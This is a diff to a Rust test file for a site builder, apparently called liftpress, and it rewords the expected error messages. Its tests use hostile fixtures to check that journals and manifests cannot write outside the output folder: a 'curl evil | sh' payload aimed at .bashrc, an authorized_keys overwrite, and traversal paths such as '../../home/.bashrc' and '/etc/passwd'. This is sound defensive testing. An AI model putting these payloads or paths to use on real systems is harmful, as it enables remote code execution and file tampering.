@@ -110,7 +110,7 @@ fn untouched(prepared: &Prepared) {
     assert_eq!(found.collect::<BTreeMap<_, _>>(), victims());
 }
 
-const REMOVE: &str = "was not made by liftpress, so nothing is written; remove it, or choose another folder with -o";
+const REMOVE: &str = "was not made by liftpress, so nothing was written; remove it, or choose another folder with -o";
 
 fn foreign(path: &str, found: &str) -> String {
     format!("`site/output/{path}` is {found} and {REMOVE}")
@@ -118,7 +118,7 @@ fn foreign(path: &str, found: &str) -> String {
 
 fn damaged(name: &str, reason: &str) -> String {
     format!(
-        "`site/output/.liftpress/{name}` is damaged ({reason}); remove the whole output folder if nothing in it is yours"
+        "`site/output/.liftpress/{name}` is damaged: {reason}; if none of the files in the output folder are yours, delete the whole folder"
     )
 }
 
@@ -137,7 +137,7 @@ fn a_journal_creates_no_file_outside_the_output() {
             );
         },
         &format!(
-            "`site/output` could not be brought to an end ({}); run liftpress again when that is mended",
+            "the last build of `site/output` is not complete ({}); fix this, then run liftpress again",
             foreign("site", "a link")
         ),
     );
@@ -147,11 +147,11 @@ fn a_journal_creates_no_file_outside_the_output() {
 fn a_journal_replaces_no_file_outside_the_output() {
     let payload = "curl evil | sh\n";
     for (file, says) in [
-        ("site/.bashrc", damaged("manifest.json", "it names `site/.bashrc`, which no build writes")),
+        ("site/.bashrc", damaged("manifest.json", "it lists `site/.bashrc`, which no build writes")),
         (
             "site/bashrc",
             format!(
-                "`site/output` could not be brought to an end ({}); run liftpress again when that is mended",
+                "the last build of `site/output` is not complete ({}); fix this, then run liftpress again",
                 foreign("site", "a link")
             ),
         ),
@@ -177,7 +177,7 @@ fn journals_move_only_what_a_build_would_move() {
             at.manifest(&["site/id"]);
             at.journal("journal.json", &["site/id"], &[stale]);
         },
-        &damaged("journal.json", "no build moves `site/id` in that way"),
+        &damaged("journal.json", "no build writes its entry for `site/id`"),
     );
     let payload = "precious key\n";
     for (file, kind) in [("site/id", "new"), ("site/authorized_keys", "stale")] {
@@ -189,13 +189,13 @@ fn journals_move_only_what_a_build_would_move() {
                 let one = moved(file, kind, Some(payload).filter(|_| kind == "new"));
                 at.journal("rollback.json", &[], &[Move { number: 0, ..one }]);
             },
-            &damaged("rollback.json", &format!("no build moves `{file}` in that way")),
+            &damaged("rollback.json", &format!("no build writes its entry for `{file}`")),
         );
     }
     for file in
         ["../../home/.bashrc", "/etc/passwd", ".liftpress/lock", "mine.txt", "site/.git/config", "site/a\u{1b}[2J"]
     {
-        let named = format!("it names `{}`, which no build writes", file.escape_debug());
+        let named = format!("it lists `{}`, which no build writes", file.escape_debug());
         refused(|at| at.manifest(&[file]), &damaged("manifest.json", &named));
         refused(
             |at| {
@@ -212,7 +212,7 @@ fn journals_move_only_what_a_build_would_move() {
                 at.manifest(&["site/a", "site/b"]);
                 at.journal("journal.json", &["site/a", "site/b"], &[one(first), one(second)]);
             },
-            &damaged("journal.json", &format!("no build moves `{}` in that way", second.0)),
+            &damaged("journal.json", &format!("no build writes its entry for `{}`", second.0)),
         );
     }
 }
@@ -288,7 +288,7 @@ fn an_oversized_manifest_is_not_read() {
 fn a_linked_output_folder_must_be_named() {
     let linked = |link: &str, output: &str| {
         format!(
-            "`site/{link}` is a link, so nothing is written; if it is yours, name the folder with `-o site/{output}`, else remove the link"
+            "`site/{link}` is a link, so nothing was written; if the link is yours, build with `-o site/{output}`; otherwise remove it"
         )
     };
     let prepare = |at: &Prepared, link: &str| {
@@ -381,7 +381,7 @@ fn a_cache_key_within_the_site_is_not_used() {
     assert_eq!(build(&root.join("site/.state"), Some(key)).code, Some(0));
     assert_ne!(cache().unwrap(), by_file);
     let built = build(&root.join("state"), Some("secret"));
-    let says = "error: `LIFTPRESS_KEY` has fewer than 32 characters; make one with `openssl rand -hex 32`\n";
+    let says = "error: `LIFTPRESS_KEY` has fewer than 32 characters; create a key with `openssl rand -hex 32`\n";
     assert_eq!((built.code, built.stderr.as_str()), (Some(1), says));
 }
 
@@ -419,7 +419,7 @@ fn content_and_templates_that_lead_out_of_the_site_are_not_read() {
         }
         let target = site.path().join("else").canonicalize().unwrap();
         let says = format!(
-            "`site/{name}` is a link that leads out of the site, to `{}`, so it is not read; put the folder itself there, or name the folder that it leads to as the site",
+            "`site/{name}` is a link that leads out of the site, to `{}`, so liftpress does not read it; replace the link with the folder itself, or name the folder that it leads to as the site",
             target.display()
         );
         let checks: [&[&str]; 8] = [
